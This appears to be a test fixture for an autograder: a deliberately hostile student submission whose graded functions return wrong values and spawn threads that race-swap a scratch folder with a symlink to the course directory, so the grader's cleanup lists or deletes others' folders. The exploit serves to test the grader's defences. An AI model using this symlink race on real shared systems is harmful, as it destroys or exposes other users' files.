# group: resources and survivors
# tries: Swap links for folders of its scratch in turns, while it is measured and removed, to have others' folders listed or emptied.
# accept: wrong
# check: files temp
# score: 0
# also: without namespaces

import os
import threading


def swap(number):
    folder, link, aside = f"folder{number}", f"link{number}", f"aside{number}"
    os.makedirs(f"{folder}/solutions/corr2d", exist_ok=True)
    os.symlink("@COURSE@", link)
    while True:  # to the end, and beyond if there were one
        os.rename(folder, aside)
        os.rename(link, folder)
        os.rename(folder, link)
        os.rename(aside, folder)


def attack():
    for number in range(4):
        threading.Thread(target=swap, args=(number,), daemon=True).start()
    total = 0
    for n in range(300_000):  # so that it is looked at a few times meanwhile
        total += n


def conv_output_size(n, kernel, stride=1, padding=0, dilation=1):
    attack()
    return -987654


def corr2d(x, k):
    attack()
    return x * 0 - 987654
